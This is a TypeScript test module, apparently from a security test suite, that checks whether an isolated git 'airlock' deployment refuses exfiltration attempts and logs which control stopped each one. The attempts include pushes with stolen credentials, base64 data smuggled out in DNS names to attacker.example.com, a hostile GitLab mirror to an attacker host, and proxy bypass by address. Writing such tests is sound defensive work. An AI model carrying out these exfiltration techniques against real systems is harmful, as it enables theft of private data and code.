/** Attempts to get data out, or in by another way, each a real request; and what refused it. */
import { join } from "node:path";
import type { ClaimId } from "../../isolation/claims";
import type { Credential, Position } from "../git/gitClient";
import { anywhere } from "./addresses";
import { Blocked } from "./blocked";
import type { Testbed } from "./testbed";
import { alarmNames } from "./firedAlarm";

/** Somebody's host on the Internet. */
const attacker = "attacker.example.com";

/** What became of an attempt. */
export interface Escape {
  attempt: string;
  /** The claim that excludes it. */
  claim: ClaimId;
  refused: boolean;
  /** The statement or rule that refused it; or what let it through. */
  by: string;
  /** The alarms that it fires: tripwires, and the source's on what the proxy refuses. */
  alarms: string[];
  /** Set where this configuration is known to leave the way open: the claim, and what closes it. */
  knownGap?: string;
}

interface Attempt {
  attempt: string;
  claim: ClaimId;
  /** True if the attempt was refused. */
  run: () => Promise<boolean>;
  knownGap?: string;
}

/**
 * Runs every attempt, in order, and reports each as it ends.
 * @param loot the folder of what must not get out (makeLoot)
 */
export async function tryToEscape(
  testbed: Testbed,
  loot: string,
  onEscape: (escape: Escape) => void,
): Promise<Escape[]> {
  const escapes: Escape[] = [];
  for (const { attempt, claim, run, knownGap } of attempts(testbed, loot)) {
    const logged = recordLogs(testbed);
    const fired = testbed.recordAlarms();
    const failed = await run();
    const alarms = alarmNames(fired());
    const gap = knownGap !== undefined && { knownGap };
    const escape = { attempt, claim, ...judge(failed, logged()), alarms, ...gap };
    onEscape(escape);
    escapes.push(escape);
  }
  return escapes;
}

/** Refused is only what something of the deployment refused: an attempt that failed by itself has shown nothing. */
function judge(failed: boolean, { leak, refusal }: Logged): Pick<Escape, "refused" | "by"> {
  if (leak !== undefined) return { refused: false, by: `the connection left, from ${leak}` };
  if (!failed) return { refused: false, by: "nothing refused it" };
  if (refusal === undefined) return { refused: false, by: "it failed, but nothing refused it" };
  return { refused: true, by: refusal };
}

/** What the logs say of an attempt. */
interface Logged {
  leak: string | undefined;
  refusal: string | undefined;
}

/** Records every log from now on; the function it returns gives what was last written. */
function recordLogs(testbed: Testbed): () => Logged {
  const { codeCommit, proxy, workTerminal, gitlabHost, isolatedTerminal, outside, leaks } = testbed;
  const logs = [
    () => codeCommit.audit.filter(({ allowed }) => !allowed).map(({ reason }) => reason),
    ...[workTerminal, gitlabHost, isolatedTerminal, outside].map(
      (position) => () => position.path.refusals.map(({ reason }) => reason),
    ),
    () => proxy?.refusals.map(({ reason }) => reason) ?? [],
  ];
  const before = logs.map((log) => log().length);
  const leaksBefore = leaks.length;
  return () => ({
    leak: leaks.slice(leaksBefore).at(-1),
    refusal: logs.flatMap((log, i) => log().slice(before[i])).at(-1),
  });
}

/** A repository with one commit at the isolated terminal: what must not get out. Returns its folder. */
export async function makeLoot({ isolatedTerminal }: Testbed): Promise<string> {
  const cwd = join(isolatedTerminal.home, "loot");
  const author = ["-c", "user.name=insider", "-c", "user.email=insider@isolated.invalid"];
  const commands = [
    ["init", "--quiet", cwd],
    ["-C", cwd, ...author, "commit", "--quiet", "--allow-empty", "--message", "personal data"],
  ];
  for (const command of commands) {
    const { code, stderr } = await isolatedTerminal.git(command);
    if (code !== 0) throw new Error(`cannot make a repository to carry out: ${stderr}`);
  }
  return cwd;
}

function attempts(testbed: Testbed, loot: string): Attempt[] {
  return [
    ...fromIsolatedTerminal(testbed, loot),
    ...withCredentials(testbed, loot),
    ...fromSource(testbed, loot),
  ];
}

/** Whether a push of the loot fails. */
function push(position: Position, url: string, credential: Credential, loot: string) {
  return async () => {
    const args = ["push", "--quiet", url, "HEAD:refs/heads/loot"];
    return (await position.git(args, { cwd: loot, credential })).code !== 0;
  };
}

/** Whether listing a repository fails. */
function pull(position: Position, url: string, credential: Credential) {
  return async () => (await position.git(["ls-remote", url], { credential })).code !== 0;
}

function fromIsolatedTerminal(testbed: Testbed, loot: string): Attempt[] {
  const { isolatedTerminal, isolatedZone, stranger, airlock, pullCredential, pushCredential } = testbed;
  const strangersUrl = `https://${testbed.codeCommit.hostname}/v1/repos/${stranger.repositoryName}`;
  const strangersGap = isolatedZone.hasEndpoint
    ? undefined
    : "C5 stays open in addresses mode: one hostname serves every AWS account. Pull through an endpoint to close it.";
  const ownNetworkGap = isolatedZone.hasEndpoint
    ? undefined
    : "C6 rests on the room's own network in addresses mode: nothing of it is deployed here.";
  return [
    {
      attempt: "An isolated terminal pushes with the pull credential",
      claim: "C3",
      run: push(isolatedTerminal, airlock.cloneUrlHttp, pullCredential, loot),
    },
    {
      attempt: "An isolated terminal pushes with the push credential, stolen",
      claim: "C2",
      run: push(isolatedTerminal, airlock.cloneUrlHttp, pushCredential, loot),
    },
    {
      attempt: "An isolated terminal pushes to a stranger's AWS account, with the stranger's credential",
      claim: "C5",
      run: push(isolatedTerminal, strangersUrl, stranger.credential, loot),
      knownGap: strangersGap,
    },
    {
      attempt: "An isolated terminal fetches from a stranger's AWS account",
      claim: "C6",
      run: pull(isolatedTerminal, strangersUrl, stranger.credential),
      knownGap: strangersGap,
    },
    {
      attempt: "An isolated terminal pushes to GitLab, with a developer's password",
      claim: "C6",
      run: push(isolatedTerminal, gitlabUrl(testbed), testbed.developer, loot),
    },
    {
      attempt: "An isolated terminal carries data out in a DNS name",
      claim: "C6",
      run: () =>
        refusedBy(isolatedTerminal, () => {
          isolatedZone.lookUp(`cGVyc29uYWwgZGF0YQ.${attacker}`);
          isolatedZone.leave();
        }),
      knownGap: ownNetworkGap,
    },
  ];
}

function withCredentials(testbed: Testbed, loot: string): Attempt[] {
  const { outside, workTerminal, airlock, pushCredential, pullCredential, insider, isBound } = testbed;
  return [
    {
      attempt: "Somebody of the production account pushes with a git credential of their own",
      claim: "C4",
      run: push(outside, airlock.cloneUrlHttp, insider, loot),
      ...(!isBound && {
        knownGap: "C4 is pending without the organization's policies: deploy the stack org.",
      }),
    },
    {
      attempt: "Somebody outside pushes with the push credential, stolen",
      claim: "C2",
      run: push(outside, airlock.cloneUrlHttp, pushCredential, loot),
    },
    {
      attempt: "Somebody outside pulls with the pull credential, stolen",
      claim: "C3",
      run: pull(outside, airlock.cloneUrlHttp, pullCredential),
    },
    {
      attempt: "A work terminal pulls with the pull credential",
      claim: "C3",
      run: pull(workTerminal, airlock.cloneUrlHttp, pullCredential),
    },
  ];
}

function fromSource(testbed: Testbed, loot: string): Attempt[] {
  const { outside, gitlabHost, sourceNetwork, airlock, pushCredential } = testbed;
  const noProxyGap = testbed.proxy
    ? undefined
    : "C7 is refuted without a proxy: nothing limits where GitLab goes. Set git-airlock:proxy's mode to managed.";
  return [
    {
      attempt: "GitLab pushes a reference beside the configured ones",
      claim: "C12",
      run: async () => {
        const args = ["push", "--quiet", airlock.cloneUrlHttp, "HEAD:refs/pipelines/1"];
        const options = { cwd: loot, credential: pushCredential, proxyUrl: testbed.mirrorProxyUrl };
        return (await gitlabHost.git(args, options)).code !== 0;
      },
    },
    {
      attempt: "Somebody outside knocks at GitLab",
      claim: "C8",
      run: pull(outside, gitlabUrl(testbed), testbed.developer),
    },
    {
      attempt: "GitLab mirrors to another host, as a hostile maintainer would have it",
      claim: "C7",
      run: () => mirrorElsewhere(testbed, `https://${attacker}/loot.git`),
      knownGap: noProxyGap,
    },
    {
      attempt: "GitLab goes around the proxy",
      claim: "C7",
      // By address, so that no resolver has a say.
      run: pull(gitlabHost, `https://${anywhere}/loot.git`, pushCredential),
      knownGap: noProxyGap,
    },
    {
      attempt: "GitLab's host carries data out in a DNS name",
      claim: "C7",
      run: () =>
        refusedBy(gitlabHost, () => {
          sourceNetwork.lookUp(`c291cmNlIGNvZGU.${attacker}`);
        }),
      knownGap: noProxyGap,
    },
  ];
}

function gitlabUrl({ gitlab, airlock }: Testbed): string {
  return `https://${gitlab.hostname}/${airlock.gitlabProject}.git`;
}

async function mirrorElsewhere({ gitlab, pushCredential, stack }: Testbed, url: string): Promise<boolean> {
  const project = `hostile/exfiltration-${stack}`;
  await gitlab.createProject(project);
  gitlab.setMirror(project, {
    ...pushCredential,
    url,
    keepDivergentRefs: true,
    onlyProtectedBranches: false,
  });
  return (await gitlab.syncMirror(project)).updateStatus !== "finished";
}

/** For what needs no git: whether the way is blocked, written into the position's log like any other refusal. */
function refusedBy(position: Position, way: () => void): Promise<boolean> {
  try {
    way();
    return Promise.resolve(false);
  } catch (error) {
    if (!(error instanceof Blocked)) throw error;
    position.path.refusals.push({ target: "DNS", reason: error.message });
    return Promise.resolve(true);
  }
}
